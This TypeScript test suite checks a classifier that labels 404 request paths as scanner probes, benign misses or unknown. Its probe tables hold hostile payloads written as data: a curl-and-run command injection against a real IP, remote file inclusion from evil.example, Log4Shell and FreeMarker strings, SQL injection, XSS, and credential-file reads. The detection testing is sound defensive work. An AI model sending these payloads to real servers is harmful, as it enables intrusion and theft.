// The pure 404 classifier and its path normaliser, table-driven: families with
// their rule, disguises, the must-not-flag examples of DESIGN.md, benign
// misses, bounded hostile input, and the kept corpora. One group sends raw
// disguised request lines to a real Fastify server, so that the classifier
// sees exactly what Node hands over.
import t from 'tap'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { connect } from 'node:net'
import Fastify from 'fastify'
import { classifyPath, classifyPathVerdict, type PathVerdict } from '../lib/classify/classify'
import { normalizePath } from '../lib/classify/normalize-path'
import { MAX_EXAMINED } from '../lib/classify/limits'
import { families } from '../lib/classify/patterns'

const corpusDir = join(__dirname, 'fixtures', 'corpus')
/** Class and family of a verdict (its certainty is tested in test/classify-certainty.test.ts). */
const ruleOf = (v: PathVerdict): { classification: string, rule: string | undefined } =>
  ({ classification: v.classification, rule: v.rule })
const readLines = (file: string): string[] =>
  readFileSync(join(corpusDir, file), 'utf8').split('\n').filter((l) => l !== '')

// ---------------------------------------------------------------------------
// Families: one or more plain probes per rule.

const probes: Array<[path: string, rule: string]> = [
  ['/.env', 'dotfile'],
  ['/admin/.env', 'dotfile'],
  ['/.env.production.local', 'dotfile'],
  ['/.aws/credentials', 'dotfile'],
  ['/.ssh/id_rsa', 'dotfile'],
  ['/.htpasswd', 'dotfile'],
  ['/.DS_Store', 'dotfile'],
  ['/sendgrid.env', 'dotfile'],
  ['/.git/config', 'vcs'],
  ['/.git/HEAD', 'vcs'],
  ['/.gitignore', 'vcs'],
  ['/.svn/entries', 'vcs'],
  ['/.hg/store/undo', 'vcs'],
  ['/CVS/Entries', 'vcs'],
  ['/wp-login.php', 'wordpress'],
  ['/wp-admin/', 'wordpress'],
  ['/blog/wp-login.php', 'wordpress'],
  ['//shop/wp-includes/wlwmanifest.xml', 'wordpress-probe'],
  ['/xmlrpc.php?rsd', 'wordpress-probe'],
  ['/wp-json/wp/v2/users', 'wordpress'],
  ['/wp-config.php.bak', 'wordpress-probe'],
  ['/wp-content/plugins/wp-file-manager/readme.txt', 'wordpress'],
  ['/administrator/components/com_jcs/view/add.php', 'cms'],
  ['/bitrix/admin/index.php', 'cms'],
  ['/typo3conf/LocalConfiguration.php', 'cms'],
  ['/sites/default/settings.php', 'cms'],
  ['/app/etc/local.xml', 'cms'],
  ['/phpmyadmin/', 'admin-console'],
  ['/phpMyAdmin-4.3.13.3-all-languages/', 'admin-console'],
  ['/db/myadmin/', 'admin-console'],
  ['/adminer-4.8.1.php', 'admin-console'],
  ['/manager/html', 'admin-console'],
  ['/jmx-console/HtmlAdaptor', 'admin-console'],
  ['/solr/admin/info/system?wt=json', 'admin-console'],
  ['/server-status', 'info-leak'],
  ['/actuator/env', 'admin-console'],
  ['/_ignition/execute-solution', 'framework-rce'],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'framework-rce'],
  ['/WEB-INF/web.xml', 'framework-rce'],
  ['/_/;/META-INF/maven/com.atlassian.jira/jira-webapp-dist/pom.properties', 'framework-rce'],
  ['/@fs/', 'framework-rce'],
  ['/tmui/login.jsp', 'vendor-rce'],
  ['/remote/fgt_lang?lang=en', 'vendor-rce'],
  ['/dana-na/auth/url_default/welcome.cgi', 'vendor-rce'],
  ['/+CSCOE+/logon.html', 'vendor-rce'],
  ['/owa/auth/logon.aspx', 'vendor-app'],
  ['/HNAP1/', 'vendor-rce'],
  ['/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array', 'vendor-rce'],
  ['/cgi-bin/test-cgi', 'cgi'],
  ['/cgi-bin/luci/;stok=/locale', 'vendor-rce'],
  ['/awstats.pl', 'admin-console'],
  ['/shell.php', 'webshell'],
  ['/c99.php', 'webshell'],
  ['/wso2.5.1.php', 'webshell'],
  ['/uploads/1.php', 'webshell'],
  ['/images/Sym.php', 'shell-name'],
  ['/xleet-shell.php', 'webshell'],
  ['/backup.sql', 'backup'],
  ['/www.zip', 'backup'],
  ['/2012.tar.gz', 'backup'],
  ['/index.php~', 'backup'],
  ['/db.sqlite3', 'backup'],
  ['/database.mdb', 'backup'],
  ['/config.php', 'config-file'],
  ['/config.yml', 'config-file'],
  ['/config_prod.json', 'config-file'],
  ['/docker-compose.yml', 'config-file'],
  ['/package-lock.json', 'config-file'],
  ['/id_rsa.pub', 'secret-file'],
  ['/server.key', 'config-file'],
  ['/web.config', 'config-file'],
  ['/php.ini', 'config-file'],
  ['/error.log', 'log-file'],
  ['/logs/access.log', 'log-file'],
  ['/phpinfo.php', 'info-leak'],
  ['/info.php', 'info-leak'],
  ['/test.php', 'info-leak'],
  ['/install.php', 'installer'],
  ['/setup.php', 'installer'],
  ['/fckeditor/editor/filemanager/connectors/php/upload.php', 'file-manager'],
  ['/kcfinder/browse.php', 'file-manager'],
  ['/etc/passwd', 'os-file'],
  ['/c:/win.ini', 'os-file'],
  ['/proc/self/environ', 'os-file'],
  ['/nmaplowercheck1606923328', 'recon'],
  ['/public/plugins/grafana/../../../../../../etc/passwd', 'traversal'],
  ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 'traversal'],
  ['/..;/', 'traversal'],
  ['/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=whoami', 'traversal'],
  ['/index.php?page=../../../../etc/passwd', 'traversal'],
  ['/download.php?file=..%2f..%2f..%2fetc%2fpasswd', 'traversal'],
  ['/current/index.php?site=demos&bn=/etc/passwd%00', 'os-file'],
  ['/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd', 'os-file'],
  ['/index.php?file=php://filter/convert.base64-encode/resource=index.php', 'file-inclusion'],
  ['/inc/linkbar.php?cfile=https://cirt.net/public/rfiinc.txt?', 'file-inclusion'],
  ['/index.php?page=http://evil.example/shell.txt?', 'file-inclusion'],
  ['/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input', 'file-inclusion'],
  ['/?%ad', 'vendor-rce'],
  // eslint-disable-next-line no-template-curly-in-string -- a Log4Shell payload, not a template
  ['/?x=${jndi:ldap://127.0.0.1/a}', 'injection'],
  // eslint-disable-next-line no-template-curly-in-string -- a Log4Shell payload, not a template
  ['/?x=${${lower:j}ndi:ldap://x/a}', 'injection'],
  ['/?id=1%27%20UNION%20SELECT%201,2,3--', 'injection'],
  ['/submit.php?subject=<script>alert(1)</script>', 'injection'],
  ['/shell?/bin/busybox+ABCD', 'os-file'],
  ['/cgi-bin/kerbynet?Section=NoAuthREQ&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F5.206.227.228%2Fzero;sh%20zero;%22', 'injection']
]

t.test('known probes are scanners and name their family', async (t) => {
  for (const [path, rule] of probes) {
    t.same(ruleOf(classifyPathVerdict(path)), { classification: 'scanner', rule }, path)
  }
})

t.test('every rule a verdict can name is a family listed in the pattern library', async (t) => {
  const rules = new Set(families.map((f) => f.rule))
  for (const [, rule] of probes) t.ok(rules.has(rule), rule)
})

// ---------------------------------------------------------------------------
// Disguises of the same probes.

const disguised: Array<[path: string, rule: string, how: string]> = [
  ['/.ENV', 'dotfile', 'upper case'],
  ['/%2eenv', 'dotfile', 'percent-encoded dot'],
  ['/%252eenv', 'dotfile', 'double-encoded dot'],
  ['/%25252eenv', 'dotfile', 'triple-encoded dot'],
  ['/%%32%65env', 'dotfile', 'nested percent-encoding'],
  ['/%c0%aeenv', 'dotfile', 'overlong UTF-8 dot'],
  ['/%e0%80%aeenv', 'dotfile', 'three-byte overlong dot'],
  ['/%ef%bc%8eenv', 'dotfile', 'full-width dot, percent-encoded'],
  ['/\uff0eenv', 'dotfile', 'full-width dot, raw'],
  ['/\u00ef\u00bc\u008eenv', 'dotfile', 'full-width dot as latin1 bytes'],
  ['/%u002eenv', 'dotfile', 'IIS %u encoding'],
  ['/%uff0eenv', 'dotfile', 'IIS %u full-width dot'],
  ['//.env', 'dotfile', 'duplicate slashes'],
  ['/./.env', 'dotfile', 'dot segment'],
  ['/static/../.env', 'dotfile', 'resolved dot-dot segment'],
  ['/.env;.css', 'dotfile', 'semicolon path parameter'],
  ['/.env%00.jpg', 'dotfile', 'NUL byte and a fake extension'],
  ['/.env%20', 'dotfile', 'trailing space'],
  ['/.env%09', 'dotfile', 'trailing tab'],
  ['/.env.', 'dotfile', 'trailing dot'],
  ['/.env::$DATA', 'dotfile', 'NTFS stream suffix'],
  ['/.git\\config', 'vcs', 'backslash'],
  ['/.git%5cconfig', 'vcs', 'encoded backslash'],
  ['/.git%c0%afconfig', 'vcs', 'overlong slash'],
  ['/.git%ef%bc%8fconfig', 'vcs', 'full-width slash'],
  ['/.git::$INDEX_ALLOCATION/config', 'vcs', 'NTFS index allocation stream'],
  ['/WP-LOGIN.PHP', 'wordpress', 'upper case'],
  ['/wp-login%2ephp', 'wordpress', 'encoded dot'],
  ['/wp-admin;jsessionid=ABC/', 'wordpress', 'path parameter'],
  ['/%77p-config.php', 'wordpress-probe', 'encoded letter'],
  ['/phpMyAdmin//index.php', 'admin-console', 'case and duplicate slash'],
  ['/actuator%2fenv', 'admin-console', 'encoded slash'],
  ['/ShElL.PhP', 'webshell', 'mixed case'],
  ['/shell.php%00.png', 'webshell', 'NUL byte extension'],
  ['/shell.php.', 'webshell', 'trailing dot'],
  ['/backup.sql%20', 'backup', 'trailing space'],
  ['/%2e%2e/%2e%2e/etc/passwd', 'traversal', 'encoded dot-dot above the root'],
  ['/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'traversal', 'encoded dot-dot'],
  ['/..%5c..%5c..%5cwindows/win.ini', 'traversal', 'encoded backslash traversal'],
  ['/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd', 'traversal', 'overlong dot-dot'],
  ['/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css', 'traversal', 'double-encoded dot-dot'],
  ['/....//....//etc/passwd', 'traversal', 'four dots'],
  ['/.well-known/../.env', 'dotfile', 'a scanner signal behind a benign prefix'],
  ['/.well-known/.git/config', 'vcs', 'a hidden folder under a benign prefix'],
  ['/.well-known/acme-challenge/shell.php', 'webshell', 'a shell hidden under acme-challenge'],
  ['/%2Fetc%2Fpasswd', 'os-file', 'encoded slashes'],
  ['/%2Fcatalog-portal%2Fui%2Foauth%2Fverify%3Ferror%3D%26deviceUdid%3D%24%7B%22freemarker.template.utility.Execute%22%3Fnew%28%29%28%22cat%20%2Fetc%2Fpasswd%22%29%7D', 'os-file', 'an encoded query inside the path']
]

t.test('disguised probes are still scanners with the same family', async (t) => {
  for (const [path, rule, how] of disguised) {
    t.same(ruleOf(classifyPathVerdict(path)), { classification: 'scanner', rule }, `${how}: ${JSON.stringify(path)}`)
  }
})

// ---------------------------------------------------------------------------
// What must not be flagged (DESIGN.md) and innocent uses of probe words.

const notScanner = [
  // Stale links of a migrated site.
  '/contact.php', '/about-us.php', '/products.php?id=42', '/index.php?page=about', '/news.php?id=1187',
  '/catalog/product_info.php?products_id=315', '/Pages/Home.aspx', '/store/item.aspx?sku=AB-1234', '/default.aspx',
  '/search.jsp?q=widgets', '/viewtopic.php?t=4412', '/index.php?option=com_content&view=article&id=12',
  '/index.php/component/content/article/12', '/?p=123', '/faq.php', '/fr.php', '/testimonials.php',
  '/badminton.php', '/executive-team.php', '/installment-plans.php', '/forgot_password.php',
  // Media under a CMS uploads folder.
  '/wp-content/uploads/2020/11/product-brochure.pdf', '/wp-content/uploads/2019/03/photo-1024x768.jpg',
  '/wp-content/themes/astra/style.css', '/wp-includes/js/jquery/jquery.min.js?ver=3.6.0',
  '/sites/default/files/inline-images/chart.png', '/fileadmin/user_upload/brochure.pdf',
  // Platform routes that start with a dot.
  '/.netlify/functions/subscribe', '/.netlify/identity/settings', '/.auth/me', '/.auth/login/aad/callback',
  '/.within.website/x/cmd/anubis/api/pass-challenge?response=00a1b2&nonce=7&redir=%2F',
  // Pages that mention a product or a file.
  '/tags/jenkins/', '/docs/ci/jenkins/pipeline-setup', '/docs/search/solr/tuning', '/docs/wordpress-plugin/install',
  '/tags/phpmyadmin/', '/docs/phpmyadmin/setup', '/topics/wp-admin', '/docs/wp-config', '/tags/.env',
  '/docs/.htaccess', '/tags/cgi-bin/', '/tags/web-inf/page/4', '/blog/htaccess-redirects-explained',
  '/tags/.net', '/jobs/.net-developer',
  // Search queries that mention probe words.
  '/search?q=.env+file', '/search?q=wp-admin+login', '/search?q=phpmyadmin', '/search?q=shell+script',
  '/api/v1/search?q=shell+jacket&size=20', '/search?q=union+select+syntax', '/search?q=curl+-X+POST',
  '/search?q=%24%28document%29.ready', '/search?q=chmod+777', '/search?q=etc+hosts',
  '/search?q=etc/passwd+permissions', '/docs/search?query=%2Fetc%2Fhosts', '/search?q=win.ini',
  // Innocent words.
  '/docs/environment-variables', '/environmental-policy', '/envoy/docs/getting-started', '/envelopes/custom-printed',
  '/docs/git-workflow', '/integrations/gitlab', '/acme/widgets.git/info/refs?service=git-upload-pack',
  '/blog/why-we-left-wordpress', '/docs/wpa3-setup', '/shop/seashell-necklace', '/partners/shell-energy',
  '/courses/bash-shell-scripting', '/config/notifications', '/settings/config', '/docs/configuration/advanced',
  '/admin-guide.html', '/docs/admin-api', '/help/administrators', '/careers/office-admin',
  '/support/articles/restore-from-backup', '/jobs/senior-php-developer', '/blog/postgres-vs-mysql',
  '/console/projects/4821/settings', '/console/billing', '/portal/login', '/uploads/', '/admin', '/admin/users',
  '/env', '/config', '/git', '/shell', '/wp', '/backup', '/debug', '/install', '/test', '/status', '/metrics',
  '/config.js', '/env.js', '/app.config.js', '/assets/config.json', '/openapi.yaml', '/swagger.yml',
  '/downloads/brochure.zip', '/releases/app-1.2.3.tar.gz', '/products/actuator-valve', '/shop/spawn-point',
  '/tools/htpasswd-generator', '/account/credentials', '/blog/entries', '/user/register', '/remote/jobs',
  // REST ids, slugs and hashed assets.
  '/api/v2/orders/8d3c2b1a-4f5e-4a6b-9c7d-0e1f2a3b4c5d', '/api/products/123/reviews?page=3&sort=recent',
  '/invoices/INV-2023-00871', '/static/js/main.8a3f1c2e.chunk.js', '/assets/index-DkP3s8Qe.css',
  '/_next/static/chunks/pages/_app-6a1b2c3d4e5f6a7b.js', '/_next/image?url=%2Fimages%2Fhero.jpg&w=1920&q=75',
  '/graphql?operationName=GetUser&variables=%7B%22id%22%3A42%7D', '/logout?redirect=%2F',
  '/login?next=https%3A%2F%2Fapp.example.com%2Fbilling', '/%E6%97%A5%E6%9C%AC%E8%AA%9E/%E3%83%98%E3%83%AB%E3%83%97',
  '/users/john.doe', '/docs/v1.2.3/api', '/', ''
]

t.test('legitimate paths that mention probe words are never scanners', async (t) => {
  for (const path of notScanner) {
    t.not(classifyPath(path), 'scanner', path)
  }
})

const benign = [
  '/favicon.ico', '/favicon.ico?v=2', '/favicon-32x32.png', '/apple-touch-icon.png',
  '/apple-touch-icon-120x120-precomposed.png', '/android-chrome-192x192.png', '/mstile-150x150.png',
  '/safari-pinned-tab.svg', '/site.webmanifest', '/manifest.json', '/browserconfig.xml', '/robots.txt',
  '/humans.txt', '/security.txt', '/ads.txt', '/app-ads.txt', '/sellers.json', '/llms.txt', '/sitemap.xml',
  '/sitemap_index.xml', '/sitemap/sitemap.xml', '/post-sitemap.xml', '/sitemap.xml.gz', '/feed/', '/rss.xml',
  '/atom.xml', '/BingSiteAuth.xml', '/google1234567890abcdef.html', '/yandex_9a8b7c6d5e4f3a2b.html',
  '/apple-app-site-association', '/sw.js', '/service-worker.js', '/firebase-messaging-sw.js',
  '/OneSignalSDKWorker.js', '/ngsw.json', '/static/js/main.8a3f1c2e.js.map', '/styles.css.map', '/wpad.dat',
  '/.well-known/security.txt', '/.well-known/acme-challenge/Xq3vC1uF9kT0bH7mN2pL5sR8wY4zA6dE',
  '/.well-known/openid-configuration', '/.well-known/change-password', '/.well-known/amphtml/apikey.pub',
  '/.well-known/pki-validation/godaddy.html', '/.WELL-KNOWN/assetlinks.json'
]

t.test('files that browsers, crawlers and apps ask for unprompted are benign misses', async (t) => {
  for (const path of benign) t.equal(classifyPath(path), 'benign-miss', path)
})

t.test('a benign file name inside a probe path is not a benign miss', async (t) => {
  t.equal(classifyPath('/php/utils/createRemoteAppwebSession.php/watchTowr.js.map'), 'scanner')
  t.equal(classifyPath('/php/ztp_gate.php/.js.map'), 'scanner')
  t.equal(classifyPath('/sitemap.xml.bak'), 'scanner')
  t.equal(classifyPath('/.robots.txt'), 'scanner')
})

// ---------------------------------------------------------------------------
// Robustness

t.test('input that is not a string is unknown and never throws', async (t) => {
  for (const value of [undefined, null, 42, {}, [], Symbol('x'), () => '/.env', Buffer.from('/.env')]) {
    t.equal(classifyPath(value as any), 'unknown')
  }
})

t.test('hostile input of 10 kB or more is classified without throwing', async (t) => {
  const cases: Array<[string, string]> = [
    ['/..'.repeat(3000), 'scanner'],
    ['/a'.repeat(5000), 'unknown'],
    ['%25'.repeat(3400), 'unknown'],
    ['/' + '%'.repeat(10_000), 'unknown'],
    ['/?' + 'a=b&'.repeat(2500), 'unknown'],
    ['/' + '.'.repeat(10_000), 'scanner'],
    ['/' + 'a/'.repeat(5000) + '.env', 'unknown'],
    ['/x?' + '../'.repeat(4000), 'scanner'],
    ['/' + '\u00ff'.repeat(10_000), 'unknown'],
    ['/' + '\uffff'.repeat(10_000), 'unknown'],
    ['/' + '%c0'.repeat(4000), 'unknown'],
    ['/' + ';'.repeat(10_000), 'unknown'],
    ['\\'.repeat(10_000), 'unknown']
  ]
  for (const [path, expected] of cases) t.equal(classifyPath(path), expected, `${path.slice(0, 12)}... (${path.length})`)
})

t.test('only the first MAX_EXAMINED characters are looked at', async (t) => {
  t.equal(classifyPath('/' + 'a'.repeat(MAX_EXAMINED) + '/.env'), 'unknown')
  t.equal(classifyPath('/.env/' + 'a'.repeat(MAX_EXAMINED * 4)), 'scanner')
})

t.test('random strings never make the classifier throw', async (t) => {
  // Deterministic generator: the same strings on every run.
  let seed = 404
  const next = (): number => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff
    return seed
  }
  const alphabet = '/\\.%;?#&=:$ \t\0aZ9~-_+\u00ae\u00c0\uff0e\ud800'
  let classified = 0
  for (let i = 0; i < 3000; i++) {
    let s = ''
    const len = next() % 80
    for (let j = 0; j < len; j++) {
      s += next() % 4 === 0 ? '%' + (next() % 256).toString(16).padStart(2, '0') : alphabet[next() % alphabet.length]
    }
    const v = classifyPathVerdict(s)
    if (v.classification === 'scanner' || v.classification === 'benign-miss' || v.classification === 'unknown') classified++
  }
  t.equal(classified, 3000)
})

t.test('verdicts are shared frozen objects, one per outcome', async (t) => {
  const a = classifyPathVerdict('/.env')
  const b = classifyPathVerdict('/admin/.env.local')
  t.equal(a, b, 'the same object for the same rule')
  t.ok(Object.isFrozen(a))
  t.equal(classifyPathVerdict('/favicon.ico'), classifyPathVerdict('/robots.txt'))
  t.equal(classifyPathVerdict('/about'), classifyPathVerdict('/pricing'))
  const unknown: PathVerdict = classifyPathVerdict('/about')
  t.same(unknown, { classification: 'unknown', rule: undefined, certain: false })
})

t.test('a verdict does not depend on the paths classified before it', async (t) => {
  // Ordinary, decoded, carefully split, query-bearing and capped inputs: each
  // one leaves the reused working memory in a different state.
  const paths = [
    '/about', '/.env', '/%2e%2e/%2e%2e/etc/passwd', '/a/b/c/d/e/f', '/wp-login.php;x=1', '/index.php?s=/index/\\think',
    '/%EF%BC%8Eenv', '/x?' + '%2525'.repeat(200), '/' + 'a/'.repeat(300) + 'b', '/.well-known/../.env', '/favicon.ico',
    '/%F0%9F%98%80/x.php', '/tags/.env', '/p%3Fa=../../etc/passwd', '/a\\b\\.git\\config', '/'
  ]
  const alone = paths.map((p) => {
    classifyPathVerdict('/' + '%c0%ae/'.repeat(80) + 'x') // something else first, every time
    return classifyPathVerdict(p)
  })
  t.same(paths.map((p) => classifyPathVerdict(p)), alone, 'in order')
  t.same([...paths].reverse().map((p) => classifyPathVerdict(p)).reverse(), alone, 'in reverse order')
  const normalized = paths.map((p) => normalizePath(p))
  t.same([...paths].reverse().map((p) => normalizePath(p)).reverse(), normalized, 'the normaliser, in reverse order')
})

// ---------------------------------------------------------------------------
// Normaliser

t.test('the normaliser undoes encodings, case, slashes, parameters and junk', async (t) => {
  const cases: Array<[string, string[], string, boolean]> = [
    ['/A/B/c.PHP', ['a', 'b', 'c.php'], '', false],
    ['//a///b/', ['a', 'b'], '', false],
    ['/a/./b/../c', ['a', 'c'], '', false],
    ['/a%2Fb', ['a', 'b'], '', false],
    ['/%2561', ['a'], '', false],
    ['/a;jsessionid=1/b;x', ['a', 'b'], '', false],
    ['/a%00/b', ['a'], '', false],
    ['/a\\b', ['a', 'b'], '', false],
    ['/web.config::$DATA', ['web.config'], '', false],
    ['/x.php.%20', ['x.php'], '', false],
    ['/%EF%BC%8Fa%EF%BC%8Eb', ['a.b'], '', false],
    ['/p?Q=%2E%2E%2F&x=a+b', ['p'], 'q=../&x=a b', false],
    ['/p?a=..\\..\\x', ['p'], 'a=../../x', false],
    ['/p%3Fa=1?b=2', ['p'], 'a=1&b=2', false],
    ['http://example.com/a/b?c', ['a', 'b'], 'c', false],
    ['/%F0%9F%98%80/%E6%97%A5', ['\u{1f600}', '\u65e5'], '', false],
    ['/caf%E9', ['caf\uf7e9'], '', false],
    ['/%AD', ['\uf7ad'], '', false],
    // Traversal ends the split: nothing after it changes the verdict.
    ['/../etc', [], '', true],
    ['/a/%2e%2e/b', ['b'], '', true],
    ['/..;/x', [], '', true],
    ['/a/.../b', ['a'], '', true]
  ]
  for (const [raw, segments, query, traversal] of cases) {
    const n = normalizePath(raw)
    t.same({ segments: n.segments, query: n.query, traversal: n.traversal }, { segments, query, traversal }, raw)
  }
})

// ---------------------------------------------------------------------------
// Kept corpora (test/fixtures/corpus, generated by benchmarks/gen-corpus.js).

t.test('no generated legitimate route is classified as a scanner', async (t) => {
  const lines = readLines('legit.txt')
  const flagged = lines.filter((p) => classifyPath(p) === 'scanner')
  t.ok(lines.length >= 1000, `${lines.length} legitimate paths`)
  t.same(flagged, [])
})

t.test('at least 97% of the disguised probe variants are scanners', async (t) => {
  const lines = readLines('disguised.txt').map((l) => JSON.parse(l) as string)
  const caught = lines.filter((p) => classifyPath(p) === 'scanner').length
  t.ok(lines.length >= 1000, `${lines.length} disguised variants`)
  t.ok(caught / lines.length >= 0.97, `${caught} of ${lines.length}`)
})

t.test('at least 99% of the extra probes from public lists are scanners', async (t) => {
  const lines = readLines('probes-extra.txt')
  const caught = lines.filter((p) => classifyPath(p) === 'scanner').length
  t.ok(caught / lines.length >= 0.99, `${caught} of ${lines.length}`)
})

// ---------------------------------------------------------------------------
// Over a real socket: request targets exactly as Node hands them to the app.

t.test('raw request lines from a real socket classify as they do offline', async (t) => {
  const app = Fastify()
  const seen: string[] = []
  app.setNotFoundHandler((request, reply) => {
    seen.push(request.raw.url ?? '')
    reply.code(404).send(classifyPathVerdict(request.raw.url ?? ''))
  })
  await app.listen({ port: 0, host: '127.0.0.1' })
  t.teardown(async () => { await app.close() })
  const port = (app.server.address() as { port: number }).port

  const send = async (target: string): Promise<string> => await new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1')
    let data = ''
    const timer = setTimeout(() => { socket.destroy(); reject(new Error('timeout')) }, 5000)
    socket.on('connect', () => socket.write(`GET ${target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`))
    socket.on('data', (chunk) => { data += String(chunk) })
    socket.on('error', (err) => { clearTimeout(timer); reject(err) })
    socket.on('close', () => { clearTimeout(timer); resolve(data.slice(data.indexOf('\r\n\r\n') + 4)) })
  })

  const cases: Array<[string, Partial<PathVerdict>]> = [
    ['/.git\\config', { classification: 'scanner', rule: 'vcs' }],
    ['/%2e%2e/%2e%2e/etc/passwd', { classification: 'scanner', rule: 'traversal' }],
    ['/wp-login.php;x=1', { classification: 'scanner', rule: 'wordpress' }],
    ['/%EF%BC%8Eenv', { classification: 'scanner', rule: 'dotfile' }],
    ['/.env%00.jpg', { classification: 'scanner', rule: 'dotfile' }],
    ['/favicon.ico', { classification: 'benign-miss' }],
    ['/tags/jenkins/', { classification: 'unknown' }]
  ]
  for (const [target, expected] of cases) {
    const body = await send(target)
    t.match(JSON.parse(body.slice(body.indexOf('{'), body.lastIndexOf('}') + 1)), expected, target)
  }
  t.equal(seen.length, cases.length, 'every request reached the 404 handler')
  t.equal(seen[0], '/.git\\config', 'the backslash arrives untouched')
})
